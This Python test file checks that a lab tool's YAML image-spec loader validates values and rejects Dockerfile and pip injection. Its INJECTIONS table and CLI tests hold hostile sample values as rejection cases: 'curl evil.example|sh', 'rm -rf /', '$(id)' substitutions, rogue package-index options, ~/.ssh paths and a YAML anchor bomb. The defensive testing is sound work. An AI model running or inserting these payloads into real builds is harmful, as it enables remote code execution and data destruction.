"""Image specs: loading, `extends`, and every class of validation error.

Every error must name the file, the key path and carry a fix; values that could
smuggle a Dockerfile instruction are rejected before anything is rendered.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from labctl import resources
from labctl.config.spec import load_spec, merge, spec_names
from labctl.errors import LabError

SHIPPED = spec_names(resources.default_images_dir())


def write_spec(images: Path, name: str, data: dict[str, Any] | str) -> Path:
    images.mkdir(parents=True, exist_ok=True)
    path = images / f"{name}.yaml"
    text = data if isinstance(data, str) else yaml.safe_dump(data, allow_unicode=True)
    path.write_text(text, encoding="utf-8")
    return path


def load_error(images: Path, name: str) -> LabError:
    with pytest.raises(LabError) as info:
        load_spec(name, images)
    return info.value


# --- loading -------------------------------------------------------------------------


def test_every_shipped_spec_loads() -> None:
    assert set(SHIPPED) >= {"d2l", "fastai", "yolo-cpu", "yolo-gpu"}
    for name in SHIPPED:
        spec = load_spec(name, resources.default_images_dir())
        assert spec.name == name
        assert spec.source == resources.default_images_dir() / f"{name}.yaml"
        assert spec.chain[0] == name


def test_yolo_gpu_extends_yolo_cpu() -> None:
    images = resources.default_images_dir()
    cpu = load_spec("yolo-cpu", images)
    gpu = load_spec("yolo-gpu", images)
    assert gpu.chain == ("yolo-gpu", "yolo-cpu")
    assert gpu.gpu is not None and gpu.gpu.cuda == "12.8"
    assert not cpu.gpu  # gpu: false
    # Everything the child does not set comes from the parent.
    assert gpu.torch == cpu.torch
    assert gpu.pip == cpu.pip
    assert gpu.apt == cpu.apt
    assert gpu.volumes == cpu.volumes
    assert gpu.description != cpu.description


def test_minimal_spec_gets_defaults(tmp_path: Path) -> None:
    write_spec(tmp_path, "tiny", "")
    spec = load_spec("tiny", tmp_path)
    assert spec.base == "debian:bookworm"
    assert spec.python == "3.11"
    assert spec.workdir == "/workspace"
    assert spec.torch is None and spec.pip == [] and spec.env == {}


def test_unknown_spec_name_suggests_a_close_one(tmp_path: Path) -> None:
    write_spec(tmp_path, "yolo-cpu", {})
    write_spec(tmp_path, "d2l", {})
    err = load_error(tmp_path, "yolo-cpy")
    assert "yolo-cpy" in err.message
    assert err.fix and "did you mean 'yolo-cpu'" in err.fix
    assert "d2l" in err.fix  # the known specs are listed


def test_name_key_must_match_the_file(tmp_path: Path) -> None:
    write_spec(tmp_path, "same", {"name": "same"})
    assert load_spec("same", tmp_path).name == "same"
    path = write_spec(tmp_path, "mine", {"name": "other"})
    err = load_error(tmp_path, "mine")
    assert err.file == str(path)
    assert "other" in err.message and err.fix and "other.yaml" in err.fix


@pytest.mark.parametrize("key", ["source", "chain"])
def test_internal_fields_are_not_yaml_keys(tmp_path: Path, key: str) -> None:
    path = write_spec(tmp_path, "s", {key: "x"})
    err = load_error(tmp_path, "s")
    assert err.file == str(path)
    assert any(d.startswith(f"{key}:") and "unknown key" in d for d in err.details)


def test_non_string_key_is_reported(tmp_path: Path) -> None:
    path = write_spec(tmp_path, "s", "1: x\n")
    err = load_error(tmp_path, "s")
    assert err.file == str(path)
    assert "1" in err.message and err.fix


# --- extends ---------------------------------------------------------------------------

PARENT = {
    "description": "parent",
    "apt": ["git", "curl"],
    "pip": ["numpy>=1.26"],
    "env": {"A": "1", "B": "2"},
    "torch": {"version": "2.10.0", "variant": "cu128", "packages": ["torchvision==0.25.0"]},
    "jupyter": {"enabled": True, "port": 8888},
    "gpu": {"cuda": "12.8", "required": True},
    "volumes": ["data", "cache"],
}


def test_extends_merges_mappings_one_level_and_replaces_other_keys(tmp_path: Path) -> None:
    write_spec(tmp_path, "parent", PARENT)
    write_spec(tmp_path, "child", {
        "extends": "parent",
        "apt": ["vim"],
        "env": {"B": "two", "C": "3"},
        "torch": {"variant": "cpu"},
        "jupyter": {"port": 9999},
        "gpu": {"cuda": "12.6"},
        "volumes": ["data"],
    })
    spec = load_spec("child", tmp_path)
    # Mappings merge one level: the child's keys win, the parent's others stay.
    assert spec.env == {"A": "1", "B": "two", "C": "3"}
    assert spec.torch is not None
    assert spec.torch.version == "2.10.0"
    assert spec.torch.variant == "cpu"
    assert spec.torch.packages == ["torchvision==0.25.0"]
    assert spec.jupyter is not None and spec.jupyter.port == 9999 and spec.jupyter.enabled
    assert spec.gpu is not None and spec.gpu.cuda == "12.6" and spec.gpu.required
    # Lists and scalars replace.
    assert spec.apt == ["vim"]
    assert spec.volumes == ["data"]
    # Keys the child does not name are inherited.
    assert spec.pip == ["numpy>=1.26"]
    assert spec.description == "parent"
    assert spec.chain == ("child", "parent")
    # The parent itself is unchanged by loading the child.
    assert load_spec("parent", tmp_path).env == {"A": "1", "B": "2"}


def test_merge_is_one_level_only() -> None:
    parent = {"torch": {"version": "2.10.0", "packages": ["a"]}, "checks": [{"name": "x"}]}
    child = {"torch": {"packages": ["b"]}, "checks": [{"name": "y"}]}
    assert merge(parent, child) == {
        "torch": {"version": "2.10.0", "packages": ["b"]},  # a list inside merges by replacing
        "checks": [{"name": "y"}],
    }


def test_child_mapping_replaces_a_non_mapping_parent_value(tmp_path: Path) -> None:
    write_spec(tmp_path, "p", {"jupyter": None})
    write_spec(tmp_path, "c", {"extends": "p", "jupyter": {"port": 8890}})
    spec = load_spec("c", tmp_path)
    assert spec.jupyter is not None and spec.jupyter.port == 8890


def test_extends_chain_of_three(tmp_path: Path) -> None:
    write_spec(tmp_path, "a", {"apt": ["git"], "env": {"A": "a"}, "python": "3.12"})
    write_spec(tmp_path, "b", {"extends": "a", "env": {"B": "b"}, "pip": ["rich"]})
    write_spec(tmp_path, "c", {"extends": "b", "env": {"A": "c"}})
    spec = load_spec("c", tmp_path)
    assert spec.chain == ("c", "b", "a")
    assert spec.env == {"A": "c", "B": "b"}
    assert spec.apt == ["git"] and spec.pip == ["rich"] and spec.python == "3.12"
    assert spec.name == "c"


@pytest.mark.parametrize(
    ("links", "start", "cycle"),
    [
        ({"a": "a"}, "a", "a -> a"),
        ({"a": "b", "b": "a"}, "a", "a -> b -> a"),
        ({"a": "b", "b": "c", "c": "b"}, "a", "a -> b -> c -> b"),
    ],
)
def test_extends_loop_is_an_error(
    tmp_path: Path, links: dict[str, str], start: str, cycle: str
) -> None:
    for name, parent in links.items():
        write_spec(tmp_path, name, {"extends": parent})
    err = load_error(tmp_path, start)
    assert "loops" in err.message and cycle in err.message
    assert err.file and Path(err.file).parent == tmp_path
    assert err.fix


def test_extends_missing_parent_names_the_child(tmp_path: Path) -> None:
    write_spec(tmp_path, "yolo-cpu", {})
    child = write_spec(tmp_path, "child", {"extends": "yolo-cpuu"})
    err = load_error(tmp_path, "child")
    assert err.file == str(child)
    assert "extends" in err.message and "yolo-cpuu" in err.message
    assert err.fix and "did you mean 'yolo-cpu'" in err.fix


def test_extends_must_be_a_name(tmp_path: Path) -> None:
    path = write_spec(tmp_path, "c", {"extends": ["a", "b"]})
    err = load_error(tmp_path, "c")
    assert err.file == str(path) and "extends" in err.message and err.fix


def test_error_in_a_parent_names_the_parent_file(tmp_path: Path) -> None:
    parent = write_spec(tmp_path, "p", {"apt": ["Bad_Name"], "env": {"OK": "1"}})
    write_spec(tmp_path, "c", {"extends": "p", "description": "child"})
    err = load_error(tmp_path, "c")
    assert err.file == str(parent)
    assert any(d.startswith("apt[0]:") for d in err.details)


def test_error_in_a_child_merged_key_names_the_child_file(tmp_path: Path) -> None:
    write_spec(tmp_path, "p", {"env": {"OK": "1"}})
    child = write_spec(tmp_path, "c", {"extends": "p", "env": {"BAD": "x\\"}})
    err = load_error(tmp_path, "c")
    assert err.file == str(child)
    assert any(d.startswith("env.BAD:") for d in err.details)


# --- validation errors -------------------------------------------------------------------

# (spec data, key path the error must name, words the error must contain)
INVALID: dict[str, tuple[dict[str, Any], str, str]] = {
    "unknown key": ({"pipp": ["rich"]}, "pipp", "did you mean 'pip'"),
    "unknown nested key": (
        {"torch": {"version": "2.10.0", "variant_": "cpu"}},
        "torch.variant_",
        "did you mean 'variant'",
    ),
    "unknown key in a list item": (
        {"checks": [{"name": "x", "runn": "true"}]}, "checks[0].runn", "did you mean 'run'"
    ),
    "list given a string": ({"apt": "git"}, "apt", "valid list"),
    "mapping given a string": ({"torch": "2.10.0"}, "torch", "dictionary"),
    "env given a list": ({"env": ["A=1"]}, "env", "dictionary"),
    "command given a string": ({"command": "python train.py"}, "command", "valid list"),
    "port given text": ({"ports": ["http"]}, "ports[0]", "integer"),
    "bool given text": ({"jupyter": {"enabled": "maybe"}}, "jupyter.enabled", "boolean"),
    "python as a float": ({"python": 3.11}, "python", "string"),
    "env value as a number": ({"env": {"YOLO_OFFLINE": 1}}, "env.YOLO_OFFLINE", "string"),
    "bad apt name": ({"apt": ["git", "Fonts_Noto"]}, "apt[1]", "Debian package name"),
    "apt name with a space": ({"apt": ["git vim"]}, "apt[0]", "Debian package name"),
    "apt option": ({"apt": ["-y"]}, "apt[0]", "Debian package name"),
    "bad requirement": ({"pip": ["numpy>>1"]}, "pip[0]", "PEP 508"),
    "requirement with spaces": ({"extras": ["a b c"]}, "extras[0]", "PEP 508"),
    "bad nodeps requirement": ({"pip_nodeps": ["d2l=0.17"]}, "pip_nodeps[0]", "PEP 508"),
    "bad torch package": (
        {"torch": {"version": "2.10.0", "packages": ["torchvision=="]}},
        "torch.packages[0]",
        "PEP 508",
    ),
    "pip option as a requirement": (
        {"pip": ["rich", "--index-url https://evil.example/simple"]}, "pip[1]", "pip option"
    ),
    "short pip option": ({"pip": ["-r other.txt"]}, "pip[0]", "pip option"),
    "pip option in torch packages": (
        {"torch": {"version": "2.10.0", "packages": ["--pre"]}}, "torch.packages[0]", "pip option"
    ),
    "bad image ref": ({"base": "Debian:Bookworm"}, "base", "image reference"),
    "image ref with a space": ({"base": "debian bookworm"}, "base", "image reference"),
    "bad env name": ({"env": {"1FOO": "x"}}, "env.1FOO", "environment variable name"),
    "env name with a dash": ({"env": {"MY-VAR": "x"}}, "env.MY-VAR", "environment variable name"),
    "env value with a newline": ({"env": {"FOO": "a\nb"}}, "env.FOO", "single line"),
    "env value with an unbalanced double quote": (
        {"env": {"FOO": 'say "hi'}}, "env.FOO", 'unbalanced " quote'
    ),
    "env value with an unbalanced single quote": (
        {"env": {"FOO": "it's"}}, "env.FOO", "unbalanced ' quote"
    ),
    "env value with a trailing backslash": ({"env": {"FOO": "C:\\"}}, "env.FOO", "backslash"),
    "env value with a tab": ({"env": {"FOO": "a\tb"}}, "env.FOO", "single line"),
    "relative workdir": ({"workdir": "workspace"}, "workdir", "absolute"),
    "workdir with a space": ({"workdir": "/my work"}, "workdir", "absolute"),
    "workdir with a shell character": ({"workdir": "/w;id"}, "workdir", "absolute"),
    "bad index url": ({"index_url": "pypi.org/simple"}, "index_url", "URL"),
    "ftp url": ({"index_url": "ftp://mirror.example/simple"}, "index_url", "URL"),
    "bad extra index url": (
        {"extra_index_urls": ["https://ok.example/simple", "not a url"]},
        "extra_index_urls[1]",
        "URL",
    ),
    "bad torch index url": (
        {"torch": {"version": "2.10.0", "index_url": "https://x.example/whl cpu"}},
        "torch.index_url",
        "URL",
    ),
    "python 2": ({"python": "2.7"}, "python", "Python version"),
    "python with a patch": ({"python": "3.11.4"}, "python", "Python version"),
    "bad torch version": ({"torch": {"version": "latest"}}, "torch.version", "version"),
    "missing torch version": ({"torch": {"variant": "cpu"}}, "torch.version", "required"),
    "bad torch variant": (
        {"torch": {"version": "2.10.0", "variant": "cuda12"}}, "torch.variant", "variant"
    ),
    "bad gpu cuda": ({"gpu": {"cuda": "twelve"}}, "gpu.cuda", "version"),
    "port too high": ({"ports": [8888, 70000]}, "ports[1]", "65535"),
    "port zero": ({"ports": [0]}, "ports[0]", "greater than or equal to 1"),
    "bad jupyter port": ({"jupyter": {"port": 65536}}, "jupyter.port", "65535"),
    "bad jupyter app": ({"jupyter": {"app": "vscode"}}, "jupyter.app", "'lab' or 'notebook'"),
    "bad volume name": ({"volumes": ["Data"]}, "volumes[0]", "lower-case"),
    "description with a newline": ({"description": "a\nb"}, "description", "single line"),
    "check without an action": ({"checks": [{"name": "smoke"}]}, "checks[0]", "run: or script:"),
    "check with both actions": (
        {"checks": [{"name": "smoke", "run": "true", "script": "x.py"}]},
        "checks[0]",
        "run: or script:",
    ),
}

# Attempts to smuggle a Dockerfile instruction or a pip option through a value.
INJECTIONS: dict[str, tuple[dict[str, Any], str]] = {
    "apt newline + RUN": ({"apt": ["git\nRUN curl evil.example|sh"]}, "apt[0]"),
    "apt trailing newline splits the RUN line": ({"apt": ["git\n", "run", "id"]}, "apt[0]"),
    "apt && command": ({"apt": ["git && curl evil.example"]}, "apt[0]"),
    "apt command substitution": ({"apt": ["git$(id)"]}, "apt[0]"),
    "pip newline + pip option": ({"pip": ["numpy\n--extra-index-url http://evil"]}, "pip[0]"),
    "pip carriage return": ({"pip": ["numpy\r-i http://evil"]}, "pip[0]"),
    "pip line continuation": ({"pip": ["numpy \\"]}, "pip[0]"),
    "pip comment hiding an option": ({"pip": ["numpy # --index-url=x"]}, "pip[0]"),
    "extras option": ({"extras": ["--trusted-host evil"]}, "extras[0]"),
    "nodeps editable": ({"pip_nodeps": ["-e git+https://evil/x"]}, "pip_nodeps[0]"),
    "env value quote + newline + RUN": ({"env": {"FOO": 'x"\nRUN rm -rf /'}}, "env.FOO"),
    "env value line continuation": ({"env": {"FOO": "x \\"}}, "env.FOO"),
    "env name newline": ({"env": {"FOO\nRUN id": "x"}}, "env.FOO\nRUN id"),
    "env name trailing newline": ({"env": {"FOO\n": "x"}}, "env.FOO\n"),
    "env name =": ({"env": {"A=1 B": "x"}}, "env.A=1 B"),
    "base newline + RUN": ({"base": "debian:bookworm\nRUN id"}, "base"),
    "base trailing newline": ({"base": "debian:bookworm\n"}, "base"),
    "base with AS stage": ({"base": "debian:bookworm AS x"}, "base"),
    "python newline": ({"python": "3.11\nRUN id"}, "python"),
    "python trailing newline": ({"python": "3.11\n"}, "python"),
    "workdir newline": ({"workdir": "/w\nRUN id"}, "workdir"),
    "workdir trailing newline": ({"workdir": "/workspace\n"}, "workdir"),
    "workdir && command": ({"workdir": "/w && id"}, "workdir"),
    "command item newline": ({"command": ["python", "x.py\nRUN id"]}, "command[1]"),
    "description newline": ({"description": "ok\nRUN id"}, "description"),
    "torch index url ;": (
        {"torch": {"version": "2.10.0", "index_url": "https://x.example/simple;id"}},
        "torch.index_url",
    ),
    "torch index url $()": (
        {"torch": {"version": "2.10.0", "index_url": "https://x.example/$(id)"}},
        "torch.index_url",
    ),
    "torch index url &&": (
        {"torch": {"version": "2.10.0", "index_url": "https://x.example/&&id"}},
        "torch.index_url",
    ),
    "torch index url trailing newline": (
        {"torch": {"version": "2.10.0", "index_url": "https://x.example/simple\n"}},
        "torch.index_url",
    ),
    "index url backtick": ({"index_url": "https://x.example/`id`"}, "index_url"),
    "torch variant trailing newline": (
        {"torch": {"version": "2.10.0", "variant": "cpu\n"}}, "torch.variant"
    ),
    "torch version newline": ({"torch": {"version": "2.10.0\n"}}, "torch.version"),
    "volume name trailing newline": ({"volumes": ["data\n"]}, "volumes[0]"),
    "wheelhouse newline": ({"wheelhouse": "wheels\nRUN id"}, "wheelhouse"),
    "src newline": ({"src": ["src\nRUN id"]}, "src[0]"),
    "check command newline": ({"checks": [{"name": "x", "run": "true\nid"}]}, "checks[0].run"),
}


def _assert_names_key(err: LabError, path: Path, key: str) -> str:
    """The error names the file, the key path, and carries a fix. Returns the key's line."""
    assert err.file == str(path)
    lines = [d for d in err.details if d.startswith(f"{key}:")]
    assert lines, f"no detail names {key!r}: {err.details}"
    assert err.fix, "the error carries no fix"
    text = str(err)
    assert str(path) in text and key in text and "Fix:" in text
    return lines[0]


@pytest.mark.parametrize("case", list(INVALID), ids=list(INVALID))
def test_validation_error(tmp_path: Path, case: str) -> None:
    data, key, words = INVALID[case]
    path = write_spec(tmp_path, "bad", data)
    err = load_error(tmp_path, "bad")
    line = _assert_names_key(err, path, key)
    assert words in line


@pytest.mark.parametrize("case", list(INJECTIONS), ids=list(INJECTIONS))
def test_injection_is_rejected(tmp_path: Path, case: str) -> None:
    data, key = INJECTIONS[case]
    path = write_spec(tmp_path, "evil", data)
    err = load_error(tmp_path, "evil")
    key_shown = key.encode("unicode_escape").decode() if "\n" in key else key
    assert err.file == str(path)
    assert err.fix
    assert any(key_shown in d or key in d for d in err.details), err.details


def test_several_errors_are_all_listed(tmp_path: Path) -> None:
    path = write_spec(tmp_path, "bad", {
        "apt": ["Bad"], "env": {"1X": "y"}, "python": "2", "ports": [0]
    })
    err = load_error(tmp_path, "bad")
    assert err.file == str(path)
    assert "4 problems" in err.message
    keys = {d.split(":", 1)[0] for d in err.details}
    assert {"apt[0]", "env.1X", "python", "ports[0]"} <= keys
    # One fix per offending key, joined.
    assert err.fix and "Debian" in err.fix and "3.11" in err.fix


def test_accepts_legitimate_values(tmp_path: Path) -> None:
    """The validators are not so strict that real specs fail."""
    write_spec(tmp_path, "ok", {
        "base": "registry.example.com:5000/team/debian:bookworm-slim",
        "apt": ["g++", "libglib2.0-0", "fonts-noto-cjk", "curl=7.88.1-10+deb12u5"],
        "pip": [
            "pandas>=2,<3", "requests[socks]>=2.31", "torch-tb-profiler; python_version>='3.9'",
            "mypkg @ https://files.example.com/mypkg-1.0-py3-none-any.whl",
        ],
        "env": {"HF_ENDPOINT": "https://hf-mirror.com", "GREETING": 'say "hi" to \\$USER',
                "WIN": "C:\\temp\\x", "_X1": ""},
        "index_url": "https://pypi.tuna.tsinghua.edu.cn/simple",
        "extra_index_urls": ["http://127.0.0.1:3141/root/pypi/+simple/"],
        "torch": {"version": "2.10.0", "variant": "cu126"},
        "workdir": "/home/lab/work-space_1.0",
        "command": ["python", "-c", "print('hello; world')"],
        "ports": [6006],
        "python": "3.12",
        "checks": [{"name": "smoke", "run": "python -c 'import torch'"}],
    })
    spec = load_spec("ok", tmp_path)
    assert spec.env["GREETING"] == 'say "hi" to $USER'
    assert spec.env["HF_ENDPOINT"] == "https://hf-mirror.com" and spec.env["WIN"] == "C:\\temp\\x"
    assert spec.torch is not None and (spec.torch.version, spec.torch.variant) == ("2.10.0",
                                                                                 "cu126")
    assert spec.workdir == "/home/lab/work-space_1.0" and spec.python == "3.12"
    assert spec.ports == [6006] and spec.checks[0].name == "smoke"


# --- YAML syntax -----------------------------------------------------------------------


def test_invalid_yaml_reports_line_and_column(tmp_path: Path) -> None:
    path = write_spec(tmp_path, "broken", "description: ok\napt: [git\n  bad: x\n")
    err = load_error(tmp_path, "broken")
    assert err.file == str(path)
    assert "not valid YAML" in err.message
    assert "line 3, column 6" in err.message
    assert err.fix


def test_yaml_tab_indentation(tmp_path: Path) -> None:
    write_spec(tmp_path, "tabs", "apt:\n\t- git\n")
    err = load_error(tmp_path, "tabs")
    assert "line 2" in err.message


def test_yaml_that_is_not_a_mapping(tmp_path: Path) -> None:
    path = write_spec(tmp_path, "list", "- git\n- vim\n")
    err = load_error(tmp_path, "list")
    assert err.file == str(path) and "mapping" in err.message and err.fix


# --- the CLI shows these errors on one screen --------------------------------------------


def _lab_with(tmp_path: Path, name: str, text: str) -> Path:
    root = tmp_path / "lab"
    (root / "images").mkdir(parents=True)
    (root / "volumes.yaml").write_text("volumes: {}\n")
    (root / "images" / f"{name}.yaml").write_text(text)
    return root


def _run_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("LABCTL_")}
    env["COLUMNS"] = "120"
    return subprocess.run(
        [sys.executable, "-m", "labctl", *args], cwd=cwd, env=env, text=True,
        capture_output=True, timeout=120,
    )


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ('apt: [git, "git\\nRUN curl evil|sh"]\n', "apt[1]"),
        ("env:\n  FOO: 'x\"'\n", "env.FOO"),
        ("pipp: [rich]\n", "pipp"),
        ("apt: [git\n  bad: x\n", "line 2"),
    ],
)
def test_cli_prints_one_screen_without_traceback(tmp_path: Path, text: str, key: str) -> None:
    root = _lab_with(tmp_path, "bad", text)
    proc = _run_cli("render", "bad", "--lab", str(root), cwd=tmp_path)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1, out
    assert "Traceback" not in out
    assert "bad.yaml" in out and key in out
    assert "fix:" in out.lower()
    assert len(out.strip().splitlines()) <= 24, out
    assert "FROM" not in proc.stdout  # nothing was rendered


def test_cli_runner_reports_a_spec_error(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from labctl import cli as cli_module

    root = _lab_with(tmp_path, "bad", "base: 'debian:bookworm\nRUN id'\n")
    result = CliRunner().invoke(
        cli_module.cli, ["render", "bad", "--lab", str(root)], env={"COLUMNS": "120"}
    )
    assert result.exit_code == 1
    assert result.exc_info is None or result.exc_info[0] is SystemExit
    assert "Traceback" not in result.output
    assert "base:" in result.output and "bad.yaml" in result.output


# --- the house: bugs a review found ------------------------------------------------------


@pytest.mark.parametrize(("value", "enabled"), [(True, True), (False, False)])
def test_jupyter_true_and_false_are_shorthands(tmp_path: Path, value: bool, enabled: bool
                                              ) -> None:
    write_spec(tmp_path, "j", {"pip": ["jupyterlab"], "jupyter": value})
    spec = load_spec("j", tmp_path)
    assert spec.jupyter is not None and spec.jupyter.enabled is enabled
    assert spec.jupyter.port == 8888


def test_an_enabled_jupyter_gets_its_package(tmp_path: Path) -> None:
    tb = ["jupyter-server-proxy>=4.4,<5", "tensorboard>=2.18,<3"]  # TensorBoard via Jupyter
    write_spec(tmp_path, "j", {"pip": ["six"], "jupyter": True})
    assert load_spec("j", tmp_path).lab_packages == ["six", "jupyterlab>=4.4,<5", *tb]
    write_spec(tmp_path, "n", {"jupyter": {"app": "notebook", "tensorboard": False}})
    assert load_spec("n", tmp_path).lab_packages == ["notebook>=7,<8"]
    write_spec(tmp_path, "named", {"pip": ["jupyterlab==4.4.1", "tensorboard==2.21.0"],
                                   "jupyter": True})
    assert load_spec("named", tmp_path).lab_packages == [
        "jupyterlab==4.4.1", "tensorboard==2.21.0", "jupyter-server-proxy>=4.4,<5"]
    write_spec(tmp_path, "off", {"pip": ["six"], "jupyter": False})
    assert load_spec("off", tmp_path).lab_packages == ["six"]


def test_a_jupyter_port_of_true_is_refused(tmp_path: Path) -> None:
    path = write_spec(tmp_path, "p", {"jupyter": {"port": True}})
    line = _assert_names_key(load_error(tmp_path, "p"), path, "jupyter.port")
    assert "integer" in line


# --- hardening: env values, reserved names -------------------------------------------------


def test_path_expands_like_docker_env(tmp_path: Path) -> None:
    from labctl.config.spec import IMAGE_ENV

    write_spec(tmp_path, "e", "env:\n  PATH: /opt/extra/bin:$PATH\n"
               "  TOOLS: ${VIRTUAL_ENV}/tools\n  BOTH: $TOOLS:x\n"
               "  DEF: ${NOPE:-fallback}\n  LIT: cost \\$5\n")
    env = load_spec("e", tmp_path).env
    assert env["PATH"] == f"/opt/extra/bin:{IMAGE_ENV['PATH']}"
    assert env["TOOLS"] == "/opt/venv/tools" and env["BOTH"] == "/opt/venv/tools:x"
    assert env["DEF"] == "fallback" and env["LIT"] == "cost $5"


@pytest.mark.parametrize(("env", "words"), [
    ({"PATH": "/opt/extra/bin"}, "keep the image's own PATH"),
    ({"GREETING": "hi $NOBODY"}, "$NOBODY"),
    ({"PRICE": "5$"}, "literal dollar"),
    ({"LABCTL_UID": "0"}, "labctl's own"),
    ({"LABCTL_WORKSPACE": "/data/x"}, "labctl's own"),
    ({"HOME": "/root"}, "set by labctl"),
    ({"USER": "root"}, "set by labctl"),
])
def test_env_values_that_would_run_the_lab_as_root_are_refused(
        tmp_path: Path, env: dict[str, str], words: str) -> None:
    path = write_spec(tmp_path, "e", {"env": env})
    err = load_error(tmp_path, "e")
    assert err.file == str(path) and err.fix
    assert any(words in d and ("env." in d or next(iter(env)) in d) for d in err.details), \
        err.details


@pytest.mark.parametrize("workdir", ["/etc", "/usr", "/usr/local", "/", "/home", "/home/lab",
                                     "/tmp", "/var/lib/x"])
def test_system_folders_are_no_workdir(tmp_path: Path, workdir: str) -> None:
    path = write_spec(tmp_path, "w", {"workdir": workdir})
    _assert_names_key(load_error(tmp_path, "w"), path, "workdir")


def test_extends_cannot_leave_the_images_folder(tmp_path: Path) -> None:
    (tmp_path / "outside.yaml").write_text("pip: [six]\n")
    path = write_spec(tmp_path / "images", "child", {"extends": "../outside"})
    err = load_error(tmp_path / "images", "child")
    assert err.file == str(path) and "not a spec name" in err.message and err.fix


@pytest.mark.parametrize("src", ["/home/me/.ssh", "~/.ssh", "../outside", "a/../../b"])
def test_a_spec_src_stays_relative(tmp_path: Path, src: str) -> None:
    path = write_spec(tmp_path, "s", {"src": [src]})
    _assert_names_key(load_error(tmp_path, "s"), path, "src[0]")


# --- hardening: what the YAML files themselves may hold -------------------------------------


@pytest.mark.parametrize(("data", "words"), [
    ("pip: [six]\n".encode("utf-16"), "UTF-16"),
    ("description: 中文\n".encode("gbk"), "not UTF-8"),
    (b"pip: [six]\npip: [idna]\n", "appears twice"),
    (b"env:\n  A: '1'\n  A: '2'\n", "appears twice"),
    (b"a: &a [1,1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
     b"c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
     b"e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\n", "after expanding anchors"),
    (b"pip: [" + b"[" * 5000 + b"]" * 5000 + b"]\n", "nested too deeply"),
])
def test_files_no_real_spec_is_are_refused_clearly(tmp_path: Path, data: bytes, words: str
                                                   ) -> None:
    tmp_path.mkdir(exist_ok=True)
    (tmp_path / "x.yaml").write_bytes(data)
    err = load_error(tmp_path, "x")
    assert words in err.message and err.file == str(tmp_path / "x.yaml") and err.fix


def test_a_spec_larger_than_any_real_one_is_refused_quickly(tmp_path: Path) -> None:
    import time

    (tmp_path / "big.yaml").write_text("pip:\n" + "  - six\n" * 2_500_000)
    t0 = time.monotonic()
    err = load_error(tmp_path, "big")
    assert time.monotonic() - t0 < 2
    assert "at most 256 KB" in err.message and err.fix


def test_a_bom_is_fine(tmp_path: Path) -> None:
    (tmp_path / "bom.yaml").write_bytes("\ufeffpip: [six]\n".encode())
    assert load_spec("bom", tmp_path).pip == ["six"]


def test_error_lines_come_from_the_parser(tmp_path: Path) -> None:
    path = write_spec(tmp_path, "l",
                      "# a comment\ndescription: ok\n\npip:\n  - six\n  - 'bad ==='\n")
    err = load_error(tmp_path, "l")
    assert err.file == str(path)
    assert any(d.startswith("pip[1]:") and d.endswith("(line 6)") for d in err.details), \
        err.details
